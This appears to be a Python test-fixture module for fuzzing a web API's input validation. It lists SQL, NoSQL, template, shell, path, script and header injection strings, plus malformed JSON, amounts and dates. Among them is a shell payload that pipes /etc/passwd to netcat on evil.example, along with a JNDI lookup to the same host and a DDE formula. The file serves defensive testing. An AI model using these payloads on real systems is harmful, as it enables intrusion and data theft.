"""What hostile clients send, by what it is meant to break. Reusable for every way in."""

from __future__ import annotations

from typing import Any, Final

INJECTIONS: Final = {
    "SQL": "'); DROP TABLE events; --",
    "SQL that waits": "' OR pg_sleep(5) IS NULL --",
    "NoSQL": '{"$gt": ""}, $where: "sleep(5000)"',
    "templates": "{{7*7}} ${jndi:ldap://evil.example/a} %(name)s %s {0.__class__} #{7*7}",
    "a shell": "; cat /etc/passwd | nc evil.example 1 && `id` $(id)",
    "a path": "../../../../etc/passwd",
    "a page": "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>",
    "headers": "a\r\nSet-Cookie: injected=1\r\nX-Injected: 1\r\n\r\nbody",
    "text that turns around": "\u202e\u2066abc\u2069\ufeff\u200b",
    "beyond the basic plane": "👩‍👩‍👧 \U0010ffff e\u0301" + "\u0301" * 50,
    "a formula": "=cmd|' /C calc'!A0",
    "backslashes": "\\x00 \\u0000 \\ \\' %00",
}

NOT_JSON: Final = {
    "bad UTF-8": b'{"username": "\xff"}',
    "overlong UTF-8": b'{"username": "\xc0\xaf"}',
    "UTF-16": '{"username": "a"}'.encode("utf-16"),
    "UTF-16 without a mark": '{"username": "a"}'.encode("utf-16-le"),
    "byte order mark": b'\xef\xbb\xbf{"username": "a"}',
    "truncated": b'{"username": ',
    "trailing": b'{"username": "a"} {}',
    "NaN": b'{"guests": NaN}',
    "Infinity": b'{"guests": -Infinity}',
    "duplicate keys": b'{"username": "a", "username": "b"}',
    "duplicate keys inside": b'{"a": [{"b": 1, "b": 1}]}',
    "duplicate keys, one escaped": b'{"username": "a", "user\\u006eame": "b"}',
    "lone surrogate": b'{"username": "\\ud800"}',
    "lone surrogate in a key": b'{"\\udfff": 1}',
    "65 levels": b"[" * 65 + b"1" + b"]" * 65,
    "a hundred thousand levels": b"[" * 100_000,
    "a hundred thousand levels, closed": b"[" * 100_000 + b"]" * 100_000,
    "a hundred thousand objects": b'{"a":' * 100_000,
    "an array of 1,001": b"[" + b"1," * 1_000 + b"1]",
    "a number of a million digits": b'{"guests": ' + b"9" * 1_000_000 + b"}",
    "single quotes": b"{'username': 'a'}",
    "a comment": b'{"username": "a" /* */}',
    "a raw NUL": b'{"username": "a\x00b"}',
    "nothing but a space": b" ",
}

AMOUNTS: Final[dict[str, Any]] = {
    "nothing": "0.00",
    "negative": "-1.00",
    "no cents": "1",
    "a tenth": "1.0",
    "a thousandth": "1.000",
    "an exponent": "1e3",
    "a leading zero": "01.00",
    "a sign": "+1.00",
    "a space": " 1.00",
    "a comma": "1,000.00",
    "empty": "",
    "NaN": "NaN",
    "Infinity": "Infinity",
    "other digits": "١.٠٠",
    "a cent too much": "10000000.01",
    "2^63": "92233720368547758.08",
    "400 digits": "9" * 400,
    "an integer": 1,
    "a float": 1.5,
    "2^63 as a number": 2**63,
    "null": None,
    "true": True,
    "a list": [],
}

DAYS: Final[dict[str, Any]] = {
    "the last there is": "9999-12-31",
    "the first there is": "0001-01-01",
    "infinity": "infinity",
    "-infinity": "-infinity",
    "no such day": "2031-02-30",
    "one digit": "2031-6-12",
    "without dashes": "20310612",
    "by week": "2031-W24-4",
    "with a time": "2031-06-12T00:00:00",
    "by slashes": "12/06/2031",
    "other digits": "٢٠٣١-٠٦-١٢",
    "a year of five digits": "12031-06-12",
    "empty": "",
    "a number": 0,
    "true": True,
    "an object": {},
}

UNKNOWN: Final = {"total_price": "1.00", "host_id": "x", "revision_": 1, "__proto__": {}, "$ne": None, "": 1}
"""Fields that nobody sends, or that only the server writes."""
